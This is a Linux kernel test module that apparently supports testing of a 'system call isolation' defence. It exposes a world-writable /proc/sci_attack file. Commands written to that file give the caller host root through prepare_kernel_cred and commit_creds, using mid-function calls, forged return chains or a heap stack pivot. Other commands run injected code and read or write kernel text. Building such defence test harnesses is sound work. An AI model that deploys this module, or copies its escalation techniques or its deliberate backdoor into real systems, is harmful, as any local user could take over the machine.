// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on the kernel, on request.  For tests only: whoever can open
 * /proc/sci_attack owns the machine, unless SCI stops them.
 *
 * A vulnerability gives an attacker a corrupted function pointer, or a stack
 * that is no longer the kernel's.  This module plays the vulnerability.  Each
 * command runs inside the caller's own write(2), one command for each write:
 *
 *   escalate                  a function pointer into the middle of
 *                             prepare_kernel_cred() and of commit_creds():
 *                             the caller becomes the host's root
 *   ret                       the same by a forged return chain on the stack
 *   pivot                     the same with the stack moved to the heap
 *   call SYMBOL [ARG]         a function pointer to the start of SYMBOL
 *   mid SYMBOL OFFSET [ARG]   ... to SYMBOL+OFFSET
 *   ret SYMBOL OFFSET [ARG]   return to SYMBOL+OFFSET
 *   pivot SYMBOL OFFSET [ARG] ... on the heap
 *   exec-data heap            execute bytes in a kmalloc()ed buffer
 *   exec-data user            ... in memory of the calling process
 *   read-text SYMBOL          read code as data
 *   read-exec SYMBOL OFFSET [ARG]  ... then jump there
 *   write-text SYMBOL         write to code; were it let through, the byte
 *                             written would be the one that was there
 *
 * SYMBOL is any name in /proc/kallsyms.  OFFSET is a number, or "body" for the
 * first instruction behind ENDBR and the ftrace nop: there a function works as
 * from its start, though no one may enter it so.
 *
 * A write that comes back returns its length, and reading the same open file
 * then gives the value the attack returned, in decimal.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/fs.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/mman.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/workqueue.h>

#include <asm/ibt.h>

#include "attack.h"

/* a fake stack: room below the chain for the frames of what it runs */
#define PIVOT_BYTES	16384
#define PIVOT_CHAIN	(PIVOT_BYTES / sizeof(u64) - 16)
#define MAX_COMMAND	128
#define MAX_ARGS	4

typedef u64 (*attack_fn)(u64 arg);

/* mov $42, %eax; ret */
static const u8 payload[] = { 0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3 };

static unsigned long (*lookup_name)(const char *name);

/* resolved when the module is loaded, at the attacker's leisure */
static struct {
	u64 prepare_kernel_cred, prepare_kernel_cred_body;
	u64 commit_creds, commit_creds_body;
} sym;

/* ------------------------------------------------------------------ */
/* symbols */

/* the first instruction behind what the compiler puts before each body */
static u64 body_of(u64 addr)
{
	static const u8 ftrace_nop[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	u64 body = addr;

	if (is_endbr(*(u32 *)body))
		body += 4;
	if (!memcmp((void *)body, ftrace_nop, sizeof(ftrace_nop)))
		body += sizeof(ftrace_nop);
	/* without either there is no such place: the start is a legal target */
	return body == addr ? 0 : body;
}

/* SYMBOL [OFFSET] [ARG], as words and as what they stand for */
struct target {
	struct work_struct work;
	const char *symbol, *offset_word, *arg_word;
	u64 addr, arg;
	int err;
};

static void resolve_work(struct work_struct *work)
{
	struct target *t = container_of(work, struct target, work);
	u64 offset;

	t->err = -ENOENT;
	t->addr = lookup_name(t->symbol);
	if (!t->addr)
		return;

	t->err = -EINVAL;
	if (t->arg_word && kstrtoull(t->arg_word, 0, &t->arg))
		return;
	if (t->offset_word && strcmp(t->offset_word, "body")) {
		if (kstrtoull(t->offset_word, 0, &offset))
			return;
		t->addr += offset;
	} else if (t->offset_word) {
		t->addr = body_of(t->addr);
		if (!t->addr) {
			t->err = -ENXIO;
			return;
		}
	}
	t->err = 0;
}

/*
 * In a worker, which is not isolated: a look-up by the caller itself would
 * leave the code of the symbol table and of the number parser, with all that
 * shares a page with them, in the caller's view, and reading the target, as
 * body_of() does, would map that as data.  The attack shall find the view as
 * it was.
 */
static int resolve(struct target *t, const char *symbol, const char *offset,
		   const char *arg)
{
	t->symbol = symbol;
	t->offset_word = offset;
	t->arg_word = arg;
	t->arg = 0;
	INIT_WORK_ONSTACK(&t->work, resolve_work);
	schedule_work(&t->work);
	flush_work(&t->work);
	destroy_work_on_stack(&t->work);
	return t->err;
}

/* the words of a command that start with SYMBOL OFFSET [ARG] */
static int resolve_target(struct target *t, int argc, char **argv)
{
	if (argc < 3)
		return -EINVAL;
	return resolve(t, argv[1], argv[2], argc > 3 ? argv[3] : NULL);
}

/* ------------------------------------------------------------------ */
/* the attacks */

/* the indirect call that the vulnerability lets go astray */
static noinline u64 corrupted_call(u64 addr, u64 arg)
{
	attack_fn fn = (attack_fn)addr;

	OPTIMIZER_HIDE_VAR(fn);
	arg = fn(arg);
	barrier();		/* not a tail call: leave a return address */
	return arg;
}

static int attack_escalate(int argc, char **argv, u64 *result)
{
	u64 cred;

	cred = corrupted_call(sym.prepare_kernel_cred_body, (u64)&init_task);
	if (!cred)
		return -ENOMEM;
	*result = corrupted_call(sym.commit_creds_body, cred);
	return 0;
}

static int attack_call(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	if (argc < 2)
		return -EINVAL;
	err = resolve(&t, argv[1], NULL, argc > 2 ? argv[2] : NULL);
	if (!err)
		*result = corrupted_call(t.addr, t.arg);
	return err;
}

static int attack_mid(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	err = resolve_target(&t, argc, argv);
	if (!err)
		*result = corrupted_call(t.addr, t.arg);
	return err;
}

/* the chain of ret and pivot: what they were told, or else the host's root */
static int build_chain(int argc, char **argv, u64 *chain, u64 *arg)
{
	struct target t;
	int err, n = 0;

	if (argc == 1) {
		*arg = (u64)&init_task;
		chain[n++] = sym.prepare_kernel_cred;
		chain[n++] = (u64)sci_attack_result_to_arg;
		chain[n++] = sym.commit_creds;
	} else {
		err = resolve_target(&t, argc, argv);
		if (err)
			return err;
		*arg = t.arg;
		chain[n++] = t.addr;
	}
	chain[n++] = (u64)sci_attack_resume;
	return n;
}

static int attack_ret(int argc, char **argv, u64 *result)
{
	u64 chain[4], arg;
	int n;

	n = build_chain(argc, argv, chain, &arg);
	if (n < 0)
		return n;
	*result = sci_attack_smash(chain, n, arg);
	return 0;
}

static int attack_pivot(int argc, char **argv, u64 *result)
{
	u64 *stack, *chain, arg;
	int n;

	stack = kzalloc(PIVOT_BYTES, GFP_KERNEL);
	if (!stack)
		return -ENOMEM;
	chain = stack + PIVOT_CHAIN;
	n = build_chain(argc, argv, chain, &arg);
	if (n > 0)
		*result = sci_attack_pivot(chain, n, arg);
	kfree(stack);
	return n < 0 ? n : 0;
}

static int attack_exec_data(int argc, char **argv, u64 *result)
{
	unsigned long user;
	void *heap;

	if (argc < 2)
		return -EINVAL;
	if (!strcmp(argv[1], "heap")) {
		heap = kmemdup(payload, sizeof(payload), GFP_KERNEL);
		if (!heap)
			return -ENOMEM;
		*result = corrupted_call((u64)heap, 0);
		kfree(heap);
		return 0;
	}
	if (!strcmp(argv[1], "user")) {
		user = vm_mmap(NULL, 0, PAGE_SIZE,
			       PROT_READ | PROT_WRITE | PROT_EXEC,
			       MAP_PRIVATE | MAP_ANONYMOUS, 0);
		if (IS_ERR_VALUE(user))
			return user;
		if (copy_to_user((void __user *)user, payload, sizeof(payload)))
			return -EFAULT;
		*result = corrupted_call(user, 0);
		return 0;
	}
	return -EINVAL;
}

static int attack_read_text(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	if (argc < 2)
		return -EINVAL;
	err = resolve(&t, argv[1], NULL, NULL);
	if (!err)
		*result = READ_ONCE(*(u64 *)t.addr);
	return err;
}

static int attack_read_exec(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	err = resolve_target(&t, argc, argv);
	if (err)
		return err;
	(void)READ_ONCE(*(u8 *)t.addr);
	*result = corrupted_call(t.addr, t.arg);
	return 0;
}

static int attack_write_text(int argc, char **argv, u64 *result)
{
	struct target t;
	int err;

	if (argc < 2)
		return -EINVAL;
	err = resolve(&t, argv[1], NULL, NULL);
	if (!err)
		asm volatile("orb $0, %0" : "+m" (*(u8 *)t.addr));
	return err;
}

static const struct {
	const char *name;
	int (*run)(int argc, char **argv, u64 *result);
} attacks[] = {
	{ "escalate",	attack_escalate },
	{ "call",	attack_call },
	{ "mid",	attack_mid },
	{ "ret",	attack_ret },
	{ "pivot",	attack_pivot },
	{ "exec-data",	attack_exec_data },
	{ "read-text",	attack_read_text },
	{ "read-exec",	attack_read_exec },
	{ "write-text",	attack_write_text },
};

/* ------------------------------------------------------------------ */
/* /proc/sci_attack */

/* what an open file keeps: the value of the last attack that came back */
struct outcome {
	bool valid;
	u64 value;
};

static int attack_proc_open(struct inode *inode, struct file *file)
{
	struct outcome *outcome = kzalloc(sizeof(*outcome), GFP_KERNEL);

	file->private_data = outcome;
	return outcome ? 0 : -ENOMEM;
}

static int attack_proc_release(struct inode *inode, struct file *file)
{
	kfree(file->private_data);
	return 0;
}

static ssize_t attack_proc_read(struct file *file, char __user *ubuf,
				size_t count, loff_t *ppos)
{
	struct outcome *o = file->private_data;
	char buf[32];
	int n;

	/* the position is that of the write before: start wherever it is */
	if (!o->valid)
		return 0;
	o->valid = false;
	n = scnprintf(buf, sizeof(buf), "%llu\n", o->value);
	if (count < n)
		return -EINVAL;
	return copy_to_user(ubuf, buf, n) ? -EFAULT : n;
}

static ssize_t attack_proc_write(struct file *file, const char __user *ubuf,
				 size_t count, loff_t *ppos)
{
	struct outcome *o = file->private_data;
	char buf[MAX_COMMAND], *argv[MAX_ARGS], *p = buf, *word;
	int argc = 0, i, err;
	u64 value = 0;

	if (count >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, count))
		return -EFAULT;
	buf[count] = '\0';

	while ((word = strsep(&p, "\n "))) {
		if (!*word)
			continue;
		if (argc == MAX_ARGS)
			return -EINVAL;
		argv[argc++] = word;
	}
	for (i = 0; argc && i < ARRAY_SIZE(attacks); i++) {
		if (strcmp(argv[0], attacks[i].name))
			continue;
		err = attacks[i].run(argc, argv, &value);
		if (err)
			return err;
		o->value = value;
		o->valid = true;
		return count;
	}
	return -EINVAL;
}

static const struct proc_ops attack_proc_ops = {
	.proc_open	= attack_proc_open,
	.proc_read	= attack_proc_read,
	.proc_write	= attack_proc_write,
	.proc_release	= attack_proc_release,
};

/* kallsyms_lookup_name() is not exported; a probe knows where it is */
static int find_lookup_name(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	u64 addr;
	int err;

	err = register_kprobe(&kp);
	if (err)
		return err;
	addr = (u64)kp.addr;
	unregister_kprobe(&kp);

	/* probes are put behind an ENDBR */
	if (is_endbr(*(u32 *)(addr - 4)))
		addr -= 4;
	lookup_name = (void *)addr;
	return 0;
}

static int __init attack_init(void)
{
	const umode_t everyone = 0666;
	int err;

	err = find_lookup_name();
	if (err) {
		pr_err("cannot find kallsyms_lookup_name: %d\n", err);
		return err;
	}
	sym.prepare_kernel_cred = lookup_name("prepare_kernel_cred");
	sym.commit_creds = lookup_name("commit_creds");
	if (!sym.prepare_kernel_cred || !sym.commit_creds) {
		pr_err("no prepare_kernel_cred or commit_creds in kallsyms\n");
		return -ENOENT;
	}
	sym.prepare_kernel_cred_body = body_of(sym.prepare_kernel_cred);
	sym.commit_creds_body = body_of(sym.commit_creds);
	if (!sym.prepare_kernel_cred_body || !sym.commit_creds_body) {
		pr_err("functions have neither ENDBR nor an ftrace nop to skip\n");
		return -ENXIO;
	}
	if (!proc_create("sci_attack", everyone, NULL, &attack_proc_ops))
		return -ENOMEM;
	return 0;
}

static void __exit attack_exit(void)
{
	remove_proc_entry("sci_attack", NULL);
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks on the kernel, for tests of system call isolation");
MODULE_LICENSE("GPL");
